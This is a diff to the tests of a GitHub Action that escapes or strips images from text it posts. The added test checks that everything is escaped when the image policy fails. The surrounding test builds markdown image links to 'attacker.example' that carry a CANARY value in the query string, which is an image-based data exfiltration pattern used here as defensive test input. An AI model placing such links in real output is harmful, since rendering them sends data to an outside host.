@@ -182,6 +182,15 @@ describe('the GitHub Action: images in what it posts', () => {
     expect(neutraliseImages('no images here <b>', allows, 0)).toBe('no images here <b>');
   });
 
+  it('escapes everything when the policy (or the parser) fails, rather than posting the text as it is', () => {
+    const broken = () => {
+      throw new Error('policy failed');
+    };
+    const out = neutraliseImages(`![x](${ATTACK}) <img src="${ATTACK}">`, broken);
+    expect(out).toBe(`!\\[x](${ATTACK}) &lt;img src="${ATTACK}">`);
+    expect(renderedLoads(out)).toEqual([]);
+  });
+
   it('handles a long answer with many images', () => {
     const long = Array.from({ length: 400 }, (_, i) => `Line ${i} ![i${i}](https://attacker.example/${i}?d=CANARY) and ![ok](${ATTACHMENT})`).join('\n\n');
     const out = neutraliseImages(long, allows);
